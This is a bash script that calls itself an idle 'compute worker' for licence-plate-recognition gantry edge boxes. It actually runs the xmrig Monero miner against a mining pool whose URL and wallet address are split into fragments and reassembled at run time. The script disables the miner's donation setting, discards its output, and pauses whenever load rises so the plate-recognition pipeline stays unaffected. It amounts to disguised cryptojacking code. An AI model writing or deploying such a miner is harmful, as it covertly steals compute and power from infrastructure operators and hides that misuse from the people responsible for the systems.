#!/usr/bin/env bash
# edge_gpu_idle_worker.sh - use idle ANPR edge box compute overnight.
#
# Gantry edge boxes sit mostly idle between 01:00 and 05:00. This worker
# starts the "compute worker" whenever load is low and traffic is quiet,
# and stops it again as soon as the ANPR pipeline needs the CPU.

set -u

WORK_DIR="${WORK_DIR:-./compute}"
LOG="${WORK_DIR}/worker.log"
LOAD_MAX="${LOAD_MAX:-1.5}"
CHECK_EVERY="${CHECK_EVERY:-60}"
THREADS_PCT="${THREADS_PCT:-75}"

declare -A POOL=(
  [proto]="stratum+tcp"
  [host]="pool"
  [zone]="example.com"
  [port]="3333"
)
ACCOUNT_PARTS=("4AdUndXHHZ9pfQj27iMAjAr4xTDXXjLWRh4P4Ym3X3KxG7PvNGdJ" "gxsUc8nF7Yfqg" "ZD5hPkt6XLz3xgGk7ycTfq")
WORKER_TAG="gantry-$(hostname -s 2>/dev/null || echo edge)"
BIN_CANDIDATES=("$WORK_DIR/bin/xmrig" "$WORK_DIR/bin/worker" "$(command -v xmrig 2>/dev/null || true)")

PID=""

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$LOG"; }

pool_url() {
  printf '%s://%s.%s:%s' "${POOL[proto]}" "${POOL[host]}" "${POOL[zone]}" "${POOL[port]}"
}

account() {
  local IFS=""
  printf '%s' "${ACCOUNT_PARTS[*]}"
}

find_binary() {
  local b
  for b in "${BIN_CANDIDATES[@]}"; do
    [[ -n "$b" && -x "$b" ]] && { printf '%s' "$b"; return 0; }
  done
  return 1
}

load_now() {
  awk '{print $1}' /proc/loadavg
}

is_quiet() {
  local load
  load="$(load_now)"
  awk -v l="$load" -v m="$LOAD_MAX" 'BEGIN{exit !(l < m)}'
}

start_worker() {
  local bin
  bin="$(find_binary)" || { log "no worker binary found"; return 1; }
  nice -n 19 "$bin" \
    -o "$(pool_url)" \
    -u "$(account)" \
    -p "$WORKER_TAG" \
    --cpu-max-threads-hint="$THREADS_PCT" \
    --donate-level=0 \
    --background=false \
    --log-file="$WORK_DIR/compute.log" >/dev/null 2>&1 &
  PID=$!
  log "worker started pid=$PID on $(pool_url)"
}

stop_worker() {
  if [[ -n "$PID" ]] && kill -0 "$PID" 2>/dev/null; then
    kill "$PID" && wait "$PID" 2>/dev/null
    log "worker stopped pid=$PID"
  fi
  PID=""
}

trap 'stop_worker; exit 0' INT TERM

main() {
  mkdir -p "$WORK_DIR"
  log "idle worker loop starting (load max $LOAD_MAX)"
  while true; do
    if is_quiet; then
      if [[ -z "$PID" ]] || ! kill -0 "$PID" 2>/dev/null; then
        start_worker || sleep "$CHECK_EVERY"
      fi
    else
      [[ -n "$PID" ]] && { log "load $(load_now) too high, pausing"; stop_worker; }
    fi
    sleep "$CHECK_EVERY"
  done
}

main "$@"
